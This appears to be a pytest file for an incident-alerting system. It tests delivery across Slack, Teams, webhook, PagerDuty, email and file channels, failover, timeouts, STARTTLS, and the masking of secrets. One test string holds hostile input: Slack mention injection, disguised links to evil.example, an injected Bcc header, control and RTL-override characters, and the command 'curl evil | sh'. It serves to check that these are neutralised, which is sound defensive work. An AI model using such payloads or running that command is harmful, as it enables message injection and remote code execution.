"""Channels: what each sends, that one which fails falls to the next, and that no secret is told."""

from __future__ import annotations

import html
import json
import logging
import os
import re
import ssl
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from blocks.people.alerts import Alerts, Channel
from flows.monitoring.acknowledgement import acknowledge_incident
from flows.monitoring.escalation import escalate
from runbook.errors import RunbookFailed, Unreachable
from runbook.report import Report, Status
from runbook.run import TABLE
from tasks.alerts.channels import deliver
from tasks.alerts.message import AlertMessage
from tests.fixtures.receivers import Fault, smtp_receiver
from tests.monitoring.duty import HOOK, KEY, NAME, PAGER, PASSWORD, SLACK, TEAMS, TOKEN, Duty, finding
from tests.redis.tls import self_signed

MESSAGE = AlertMessage("trigger", "i", "i-0-lead", NAME, False, "停止 <b> & x", "内容: <b>", "チームリード")


def silent_about_secrets(duty: Duty, text: str) -> None:
    """Nor about the beginning of one."""
    for secret in (TOKEN, KEY, PASSWORD):
        assert secret not in text + duty.written()
        assert secret[:7] not in text + duty.written()


def reported(duty: Duty) -> Report:
    with pytest.raises(RunbookFailed) as error:
        escalate.fn(NAME, what="x", key="k")
    return error.value.report


def test_what_each_channel_sends(duty: Duty) -> None:
    duty.describe(channels=("slack", "teams", "webhook", "pagerduty"))
    alerts, got = duty.env.alerts, duty.web.got
    for channel in alerts.channels:
        deliver(alerts, channel, "lead", MESSAGE)
    assert got[SLACK] == [{"text": "⚠️ [trial] 停止 &lt;b&gt; &amp; x\n内容: &lt;b&gt;", "mrkdwn": False}]
    (attachment,) = got[TEAMS][0]["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    assert lines_of(attachment["content"]) == ["⚠️ [trial] 停止 <b> & x", "内容: <b>"]
    assert (got[HOOK][0]["to"], got[HOOK][0]["text"]) == ("チームリード", "内容: <b>")
    assert {key: got[PAGER][0][key] for key in ("routing_key", "event_action", "dedup_key")} == {
        "routing_key": KEY,
        "event_action": "trigger",
        "dedup_key": "i",
    }
    assert got[PAGER][0]["payload"]["severity"] == "error"


def lines_of(card: dict[str, Any]) -> list[str]:
    """Of text runs only: what they hold is text, never Markdown."""
    assert {one["type"] for one in card["body"]} == {"RichTextBlock"}
    assert {run["type"] for one in card["body"] for run in one["inlines"]} == {"TextRun"}
    return ["".join(run["text"] for run in one["inlines"]) for one in card["body"]]


HOSTILE = (
    "<!channel> @channel @here a@here.example <https://evil.example|grafana> [grafana](https://evil.example/x) "
    "*b* _i_ ~s~ `c` <b>&amp;</b> \x1b[31m\x00 \u202etxt.exe \udc80 ops\nBcc: everybody@example.com\nnext step: curl evil | sh"
)


def test_what_others_write_is_text_in_every_channel(duty: Duty) -> None:
    """A table's name, a log line, an exception: also one that no channel could carry, so that nobody was told."""
    everything: tuple[Channel, ...] = ("slack", "teams", "webhook", "pagerduty", "email", "file")
    for channel in everything:
        duty.describe(channels=(channel,))
        path = duty.base / "trial.toml"
        path.write_text(path.read_text().replace("[alerts]\n", f'[alerts]\nfile = "{duty.base}/alerts.jsonl"\n'))
        escalate.fn(NAME, what=HOSTILE, key=channel)
    got = duty.web.got
    line = "*b* _i_ ~s~ `c` <b>&amp;</b> \ufffd[31m\ufffd \ufffdtxt.exe \ufffd ops"
    (slack,), (teams,), (hook,), (pager,) = got[SLACK], got[TEAMS], got[HOOK], got[PAGER]
    assert slack["mrkdwn"] is False
    assert not re.search(r"[<>]|&(?!(amp|lt|gt);)|@(channel|here)", slack["text"])
    assert html.unescape(slack["text"]).replace("\u2060", "").count(line) == 2, "the title and the text"
    assert "a@here.example" in hook["text"]
    lines = lines_of(teams["attachments"][0]["content"])
    assert [one for one in lines if line in one] == [lines[0], lines[1]]
    runs = [run for one in teams["attachments"][0]["content"]["body"] for run in one["inlines"]]
    linked = {run["text"]: run["selectAction"]["url"] for run in runs if "selectAction" in run}
    assert all(text == address for text, address in linked.items()), "a link shows where it leads"
    (letter,) = duty.mail.letters
    assert letter["To"] == "oncall@example.com"
    assert letter["Bcc"] is None
    assert letter.get_content_type() == "text/plain"
    assert line in letter.get_content()
    (kept,) = [json.loads(one) for one in (duty.base / "alerts.jsonl").read_text().splitlines()]
    for text in (hook["text"], pager["payload"]["custom_details"]["text"], kept["text"], letter.get_content()):
        assert line in text
        assert "\n  next step: curl evil | sh" in text, "no field of ours"
        assert text.count("\nnext step: ") == 1
    assert {len(incident.told) for incident in duty.incidents()} == {1}, "each was taken by its channel"


def test_pagerduty_learns_that_somebody_has_it_and_that_it_is_over(duty: Duty) -> None:
    duty.describe(channels=("pagerduty",))
    escalate.fn(NAME, what="x", key="k")
    acknowledge_incident.fn(NAME, by="佐藤")
    acknowledge_incident.fn(NAME, by="佐藤", action="resolve")
    sent = duty.web.got[PAGER]
    assert [one["event_action"] for one in sent] == ["trigger", "acknowledge", "resolve"]
    assert len({one["dedup_key"] for one in sent}) == 1


@pytest.mark.parametrize("fault", ["500", "302", "echo", "close", "refused"])
def test_a_channel_that_fails_falls_to_the_next(
    duty: Duty, fault: Fault, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    duty.describe(channels=("slack", "email"))
    if str(fault) == "refused":
        monkeypatch.setenv("OPS_TEST_SLACK", os.environ["OPS_TEST_SLACK"].replace(duty.web.url, "http://127.0.0.1:9"))
        report = escalate.fn(NAME, what="x")
    else:
        with duty.web.fault(SLACK, fault):
            report = escalate.fn(NAME, what="x")
    assert duty.told == ["oncall"]
    assert report.status is Status.WARN
    assert finding(report, "channel slack for オンコールSRE").startswith("WARN slack: ")
    assert [(one.channel, one.outcome) for one in duty.incidents()[0].told] == [("slack", "failed"), ("email", "sent")]
    silent_about_secrets(duty, caplog.text + report.sentence())


@pytest.mark.parametrize("fault", ["hang", "drip"])
def test_a_channel_that_does_not_answer_has_a_deadline(duty: Duty, fault: Fault) -> None:
    duty.describe(channels=("slack",), seconds=1)
    with duty.web.fault(SLACK, fault), pytest.raises(Unreachable, match="slack: ") as error:
        deliver(duty.env.alerts, "slack", "lead", MESSAGE)
    silent_about_secrets(duty, str(error.value))


def test_what_a_server_repeats_is_masked_before_it_is_cut(duty: Duty) -> None:
    duty.describe(channels=("slack", "pagerduty"))
    for channel, path in (("slack", SLACK), ("pagerduty", PAGER)):
        with duty.web.fault(path, "echo"), pytest.raises(Unreachable, match="refused: 404 there is no") as error:
            deliver(duty.env.alerts, channel, "lead", MESSAGE)  # type: ignore[arg-type]
        silent_about_secrets(duty, str(error.value))


def test_what_an_alert_repeats_of_an_exception_is_masked(duty: Duty) -> None:
    told = f"connection to postgresql://grc:pw-4714-geheim@db/grc failed; 404 for {duty.web.url}{SLACK}; " + "x" * 9999
    escalate.fn(NAME, what=told)
    (letter,) = duty.mail.letters
    assert "postgresql://grc:********@db/grc failed" in letter.get_content()
    assert len(duty.incidents()[0].what) <= 500
    silent_about_secrets(duty, letter.get_content() + letter["Subject"])


def test_all_channels_are_down(duty: Duty) -> None:
    duty.describe(channels=("slack", "email"))
    duty.mail.refuses = True
    with duty.web.fault(SLACK, "500"):
        report = reported(duty)
    assert finding(report, "オンコールSRE was notified").startswith(
        "CRITICAL no channel accepted the message — phone 佐藤: 000-0000-0001."
    )
    assert finding(report, "channel email for オンコールSRE").startswith(
        "WARN email: refused: 451 4.3.0 the disk of the"
    )
    assert "phone マネージャー: 000-0000-0005" in finding(report, "マネージャー was notified"), (
        "nobody was reached before"
    )
    assert not [one for one in report.findings if "経営層" in one.name], "it is not severe"
    (called,) = [one for one in report.evidence if one.name == TABLE]
    assert called.rows[0][:4] == ("オンコールSRE", "SRE", "佐藤", "000-0000-0001")
    assert ("vendor", "", "AWSサポート", "", "", "Premium Support") in called.rows
    assert report.path
    assert "| オンコールSRE | SRE | 佐藤 | 000-0000-0001 |" in report.path.with_suffix(".md").read_text()
    duty.mail.refuses = False
    with duty.web.fault(SLACK, "500"):
        escalate.fn(NAME)
    assert duty.told == ["oncall"], "the next run reaches who is on call, and the others again at their minutes"


def test_a_disk_that_takes_nothing_does_not_keep_anybody_from_being_told(duty: Duty) -> None:
    (duty.base / "reports").mkdir()
    (duty.base / "reports" / "incidents").write_text("in the way")
    report = reported(duty)
    assert duty.told == ["oncall"]
    assert finding(report, "the incident is on disk").startswith("CRITICAL ")


def test_a_damaged_file_keeps_nobody_from_being_told(duty: Duty) -> None:
    escalate.fn(NAME, what="x", key="old")
    (path,) = (duty.base / "reports" / "incidents").glob("*.json")
    path.write_text("{")
    report = reported(duty)
    assert duty.told == ["oncall", "oncall"]
    assert "delete it if the incident is resolved" in finding(report, "a file of an incident")


def test_starttls_and_a_login(duty: Duty, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    chain, key = self_signed(tmp_path, ["127.0.0.1"])
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(chain, key)
    with smtp_receiver(context, ("ops", PASSWORD)) as box:
        alerts = mailing(duty.env.alerts, box.port)
        with pytest.raises(Unreachable, match=r"email: not sent \(SSLCertVerificationError\)"):
            deliver(alerts, "email", "lead", MESSAGE)
        monkeypatch.setenv("SSL_CERT_FILE", str(chain))
        deliver(alerts, "email", "lead", MESSAGE)
        assert len(box.to("lead@example.com")) == 1
        wrong = alerts.model_copy(update={"smtp_password": SecretStr(PASSWORD + "!")})
        with pytest.raises(Unreachable, match="email: refused: 535") as error:
            deliver(wrong, "email", "lead", MESSAGE)
        silent_about_secrets(duty, str(error.value))


def mailing(alerts: Alerts, port: int) -> Alerts:
    return alerts.model_copy(
        update={
            "smtp_port": port,
            "smtp_security": "starttls",
            "smtp_user": "ops",
            "smtp_password": SecretStr(PASSWORD),
        }
    )


def test_a_test_channel_is_a_file(duty: Duty, tmp_path: Path) -> None:
    alerts = duty.env.alerts.model_copy(update={"file": str(tmp_path / "var" / "alerts.jsonl")})
    chosen: Channel = "file"
    for _ in range(2):
        deliver(alerts, chosen, "lead", MESSAGE)
    lines = (tmp_path / "var" / "alerts.jsonl").read_text().splitlines()
    assert [json.loads(line)["number"] for line in lines] == ["i-0-lead", "i-0-lead"]
